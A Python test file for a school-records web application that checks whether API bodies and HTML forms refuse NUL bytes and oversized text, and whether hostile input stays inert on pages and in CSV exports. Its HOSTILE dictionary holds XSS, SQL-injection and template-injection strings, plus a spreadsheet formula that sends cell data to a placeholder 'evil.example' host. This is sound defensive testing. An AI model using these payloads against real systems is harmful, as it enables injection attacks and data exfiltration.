"""Every field of every form and of every body: what no field can hold is refused there, and nothing is changed."""

import copy
import csv
import html.parser
import io
import re
import secrets
import urllib.parse

import pytest

from pages import NO_PAGES, pattern
from people import Person
from schema import known

# No field of any form or body can hold these.
NUL, LONG = "a\0b", "long " * 10_000
# What goes into fields that are empty, so that nothing but the one wrong value is wrong.
PLAUSIBLE = {"date": "2026-11-20", "number": "12", "email": "ada@school.example", "search": "", "hidden": ""}
# Where a form came from, a tick in a box whatever its value, and what is looked at in touched and late rows alone.
FREE = re.compile(r"^(return|back|object|late|isPrimary|livesWith|primary|(version|seen|minutes)-.*)$")


@pytest.fixture
def admin(node):
    return node.sign_in("administrator")


@pytest.fixture
def browser(node):
    """The administrator at a browser without a window, with an import that waits for its columns."""
    opened = node.client()
    email, password = node.installation.accounts["administrator"]
    assert opened.post("/login", data={"email": email, "password": password}).status_code == 303
    roster = ("wait.csv", "Student number,Given name,Family name\nF-1,Fay,Fields\n", "text/csv")
    assert opened.post("/imports", files={"file": roster}).headers["location"].endswith("/columns")
    return opened


@pytest.fixture
def unchanged(school, admin, browser):
    """After the test the record has not a single change that was not there before."""
    def state():
        return school.rows("SELECT count(*), max(id) FROM record_audit" if school.engine == "sqlite"
                           else "SELECT count(*), max(id::text) FROM record_audit")

    before = state()
    yield
    assert state() == before


# ---- Bodies ----------------------------------------------------------------------------------------------------------


def leaves(shape, schemas, at=()):
    """Where in a body of a shape there is text, and whether it is free text."""
    shape = schemas[shape["$ref"].rsplit("/", 1)[1]] if "$ref" in shape else shape
    for part in shape.get("anyOf", []) + shape.get("oneOf", []):
        yield from leaves(part, schemas, at)
    kinds = shape.get("type", [])
    if "string" in ([kinds] if isinstance(kinds, str) else kinds) or "enum" in shape:
        yield at
    for name, part in shape.get("properties", {}).items():
        yield from leaves(part, schemas, (*at, name))
    if "items" in shape:
        yield from leaves(shape["items"], schemas, (*at, 0))


def with_text(body, at, text):
    """A body with a text at a place; None when the example does not reach there."""
    body = copy.deepcopy(body)
    part = body
    for step in at[:-1]:
        if isinstance(part, list) and not part or isinstance(part, dict) and not part.get(step):
            return None
        part = part[step]
    part[at[-1]] = text
    return body


def operations(admin):
    """Every operation that takes a body: its method, an address that exists, its example and its places of text."""
    description = admin.get("/api/openapi.json").json()
    ids, schemas = known(admin, description), description["components"]["schemas"]
    # These are listed for one school and one section at a time.
    ids["/api/v1/periods"] = listed(admin.get(f"/api/v1/orgs/{admin.school()}/periods"))
    ids["/api/v1/enrolments"] = listed(admin.get(f"/api/v1/sections/{ids['/api/v1/sections'][0]}/enrolments"))
    for path, methods in description["paths"].items():
        for method, operation in methods.items():
            for kind, content in operation.get("requestBody", {}).get("content", {}).items() \
                    if isinstance(operation, dict) else ():
                if "json" in kind:
                    address = filled(admin, path, ids)
                    yield method, path, address, kind, content["example"], list(leaves(content["schema"], schemas))


def listed(answer):
    assert answer.status_code == 200, answer.text
    return [row["id"] for row in answer.json()["data"]]


def filled(admin, path, ids):
    """A path whose variables name what exists, as far as it can be found."""
    first = path.split("/{")[0]
    path = path.replace("{section}", (ids.get("/api/v1/sections") or ["none"])[0]).replace("{date}", admin.node.today())
    if "{id}" in path and ids.get(first):
        # Whoever was made for a test may have no guardian.
        fitting = [one for one in ids[first] if "{id}/guardians/" not in path or listed(admin.get(f"{first}/{one}/guardians"))]
        path = path.replace("{id}", fitting[0])
    for inner, members in (("{guardianship}", "guardians"), ("{job}", "jobs"), ("{right}", "rights")):
        if inner in path:
            answer = admin.get(path.split("/" + inner)[0])
            rows = answer.json().get("data") if answer.status_code == 200 else None
            rows = rows if isinstance(rows, list) else (rows or {}).get(members, [])
            path = path.replace(inner, rows[0]["id"] if rows else "019a1000-0000-7000-8000-00000000dead")
    return path


def test_no_body_takes_what_no_field_can_hold(admin, unchanged):
    wrong, asked = [], 0
    for method, path, address, kind, example, places in operations(admin):
        if path.endswith("/auth/logout"):
            continue
        headers = {"Content-Type": kind, "If-Match": '"1"'}
        for at in places:
            for name, text in (("NUL", NUL), ("long", LONG)):
                body = with_text(example, at, text)
                if body is None:
                    continue
                asked += 1
                answer = admin.http.request(method, address, json=body, headers=headers)
                told = answer.json() if "json" in answer.headers.get("content-type", "") else {}
                pointer = "/" + "/".join(map(str, at))
                fine = answer.status_code == 422 and pointer in [one["pointer"] for one in told.get("errors", [])]
                # What opens no door may be a wrong key or none at all: that is not told.
                if not fine and not ("/auth/" in path and answer.status_code in (401, 404, 422)):
                    wrong.append(f"{method} {path} {pointer} {name}: {answer.status_code} {answer.text[:200]}")
    assert not wrong, "\n".join(wrong)
    assert asked > 200


# ---- Forms -----------------------------------------------------------------------------------------------------------


class Forms(html.parser.HTMLParser):
    """The forms of a page: each with its method, its action, and its fields as a browser would send them."""

    def __init__(self, text):
        super().__init__()
        self.found, self.named, self.form, self.select, self.area, self.links = [], {}, None, None, None, []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        told = dict(attributes)
        if tag == "a" and (told.get("href") or "").startswith("/") and "download" not in told:
            self.links.append(told["href"].split("#")[0])
        if tag == "form":
            self.form = {"method": told.get("method", "get"), "action": told.get("action"), "fields": [],
                         "id": told.get("id"), "encoding": told.get("enctype")}
            self.found.append(self.form)
        form = next((one for one in self.found if one["id"] and one["id"] == told.get("form")), self.form)
        if form is None or not told.get("name"):
            self.option(tag, told)
            return
        kind = told.get("type", "text")
        if tag == "input" and kind not in ("file", "submit", "button"):
            if kind not in ("checkbox", "radio") or "checked" in told:
                form["fields"].append([told["name"], told.get("value") or PLAUSIBLE.get(kind, "Plausible")])
        elif tag == "textarea":
            self.area = [told["name"], ""]
            form["fields"].append(self.area)
        elif tag == "select":
            self.select = [told["name"], None]
            form["fields"].append(self.select)
        elif tag == "button" and told.get("value"):
            form["fields"].append([told["name"], told["value"]])

    def option(self, tag, told):
        if tag == "option" and self.select and (not self.select[1] or "selected" in told):
            self.select[1] = told.get("value") or ""

    def handle_data(self, data):
        if self.area:
            self.area[1] += data

    def handle_endtag(self, tag):
        if tag == "form":
            self.form = None
        elif tag == "select" and self.select:
            self.select[1] = self.select[1] or ""
            self.select = None
        elif tag == "textarea":
            self.area = None


def forms(browser):
    """Every form that can be reached by links, once for each pattern of its address."""
    waiting, seen, found = ["/today"], set(), {}
    while waiting:
        address = waiting.pop(0)
        kind = pattern(address)
        if kind in seen or NO_PAGES.search(urllib.parse.urlsplit(address).path):
            continue
        answer = browser.get(address, headers={"Accept": "text/html"}, follow_redirects=True)
        if answer.status_code == 200:
            seen.add(kind)
        page = Forms(answer.text)
        waiting += page.links
        for form in page.found:
            action = form["action"] or address
            names = tuple(sorted({name for name, _ in form["fields"]}))
            if names:
                found.setdefault((form["method"], pattern(action), names), (action, form))
    return found


def newest(admin):
    """What was written last."""
    return admin.get("/api/v1/audit", params={"limit": 1}).json()["data"][0]["id"]


def test_no_form_takes_what_no_field_can_hold(browser, admin, unchanged):
    wrong, asked, found, last = [], 0, forms(browser), newest(admin)
    for (method, kind, names), (action, form) in found.items():
        if kind.startswith("/account/"):
            continue  # How one likes pages: an unknown wish is no wish.
        for field in filter(lambda field: not FREE.match(field), names):
            for name, text in (("NUL", NUL), ("long", LONG)):
                if method == "get" and name == "long":
                    text = text[:5000]
                sent = {}
                for one, value in form["fields"]:
                    sent[one] = text if one == field else value
                asked += 1
                if method == "get":
                    answer = browser.get(action.split("?")[0], params=sent, headers={"Accept": "text/html"})
                else:
                    answer = browser.post(action, data=sent, headers={"Accept": "text/html", "Origin": browser_url(browser)})
                written, last = newest(admin) != last, newest(admin)
                told = 400 <= answer.status_code < 500 or "flash=" in answer.headers.get("set-cookie", "")
                if written or not told:
                    wrong.append(f"{method} {kind} {field} {name}: {answer.status_code}, written: {written}")
    print(sorted(f"{method} {kind} {names}" for method, kind, names in found))
    assert not wrong, "\n".join(wrong)
    assert len(found) > 25 and asked > 200


def browser_url(browser):
    return str(browser.base_url).rstrip("/")


# ---- What a field can hold, and nobody hopes for ---------------------------------------------------------------------

HOSTILE = {
    "markup": "\"'><img src=x onerror=alert(1)><script>alert(2)</script></textarea>{{7*7}}'; DROP TABLE directory_org;--",
    "one long word": "Llanfairpwllgwyngyllgogerychwyrndrobwll" * 20,
    "a formula": "=HYPERLINK(\"http://evil.example?\"&A1)",
}
# The pages that show what was made through the API.
SHOWN = {
    "/api/v1/students": ("/people/students/{id}", ["", "/edit", "?tab=family", "?tab=log", "?tab=sections"]),
    "/api/v1/staff": ("/people/staff/{id}", ["", "/edit"]),
    "/api/v1/courses": ("/admin/courses/{id}", [""]),
    "/api/v1/sections": ("/sections/{id}", ["", "/edit"]),
    "/api/v1/roles": ("/admin/roles/{id}", [""]),
    "/api/v1/orgs": ("/admin/orgs/{id}", [""]),
    "/api/v1/accounts": ("/admin/accounts/{id}", [""]),
}
LISTS = ["/people/students?sort=number", "/people/staff", "/people/guardians", "/admin/courses", "/sections",
         "/admin/roles", "/admin/orgs", "/admin/accounts", "/audit", "/search?q=l"]


def longest(shape, schemas, name):
    """How much text a member of a body holds; nil when it is no free text."""
    shape = schemas[shape["$ref"].rsplit("/", 1)[1]] if "$ref" in shape else shape
    member = shape["properties"][name]
    return None if "format" in member or "enum" in member or "$ref" in member else member.get("maxLength")


def exchanged(example, values):
    """An example with other values for the members of some names, however deep they lie."""
    if isinstance(example, list):
        return [exchanged(one, values) for one in example]
    if not isinstance(example, dict):
        return example
    return {name: values[name] if name in values else exchanged(value, values) for name, value in example.items()}


def made_with(admin, path, description, text):
    """What comes to be when every member that takes the text has it, and the others are as in the example."""
    content = description["paths"][path]["post"]["requestBody"]["content"]["application/json"]
    school, unique = admin.school(), secrets.token_hex(4)
    known_ids = {"schoolId": school, "orgId": school, "parentId": school, "personId": None, "periodIds": None,
                 "roles": [], "courseId": admin.get("/api/v1/courses").json()["data"][0]["id"]}
    body = exchanged(content["example"], known_ids)
    body |= {name: unique for name in ("number", "code", "userName") if name in body}
    if path.endswith("/orgs"):
        body["parentId"] = next(one["parentId"] for one in admin.all("/api/v1/orgs") if one["id"] == school)
    wanted = {}
    for name in body:
        most = longest(content["schema"], description["components"]["schemas"], name)
        if most:
            wanted[name] = (unique[:3] + text)[:most] if name in ("number", "code", "userName", "name") else text[:most]
    answer = admin.post(path, json=body | wanted)
    while answer.status_code == 422:
        refused = {error["pointer"].split("/")[1] for error in answer.json()["errors"]} & wanted.keys()
        assert refused, f"{path}: {answer.text}"
        wanted = {name: value for name, value in wanted.items() if name not in refused}
        answer = admin.post(path, json=body | wanted)
    assert answer.status_code == 201, f"{path}: {answer.text}"
    assert wanted, f"{path}: no member takes {text}"
    told = answer.json()["data"]
    for name, value in wanted.items():
        if isinstance(told.get(name), str):
            assert told[name] == value, f"{path} {name}"
    return told["account"] if path.endswith("/accounts") else told["id"]


@pytest.mark.parametrize("name", HOSTILE)
def test_text_stays_text_wherever_it_is_shown(installations, chromium, engine, name):
    """No field's text becomes part of a page, of a file's formulas or of a statement; none pushes a page wider."""
    node = installations(engine).seed(20).serve()
    admin = node.sign_in("administrator")
    text, pages = HOSTILE[name], list(LISTS)
    description = admin.get("/api/openapi.json").json()
    for path, (page, ends) in SHOWN.items():
        made = made_with(admin, path, description, text)
        pages += [page.replace("{id}", made) + end for end in ends]
        if path == "/api/v1/students":
            student = made
    made_with_guardian(admin, student, text)
    person = Person(chromium, node, scripts=True, viewport={"width": 320, "height": 640})
    person.page.on("dialog", lambda dialog: (person.complaints.append(dialog.message), dialog.dismiss()))
    person.sign_in("administrator")
    wrong = []
    for address in pages:
        status = person.go(address)
        width, strangers = person.page.evaluate(
            "[document.documentElement.scrollWidth, document.querySelectorAll('[src=x], [onerror]').length]")
        if (status, width, strangers) != (200, 320, 0):
            wrong.append(f"{address}: {status}, {width} pixels, {strangers} strangers: {widest(person.page)}")
    assert not wrong, "\n".join(wrong)
    assert person.complaints == []
    list_of_all = person.context.request.get("/people/students.csv").text()
    person.close()
    cells = [cell for row in csv.reader(io.StringIO(list_of_all)) for cell in row]
    assert len(cells) > 100 and not [cell for cell in cells if cell and cell[0] in "=+@-"]


def widest(page):
    return page.evaluate("""() => [...document.querySelectorAll("body *")].filter(found =>
        found.getBoundingClientRect().right > 321).slice(-1).map(found => found.parentElement.outerHTML.slice(0, 160))""")


def made_with_guardian(admin, student, text):
    answer = admin.post(f"/api/v1/students/{student}/guardians", json={
        "displayName": text[:200], "relation": "father", "email": None, "phone": None})
    assert answer.status_code in (201, 422), answer.text
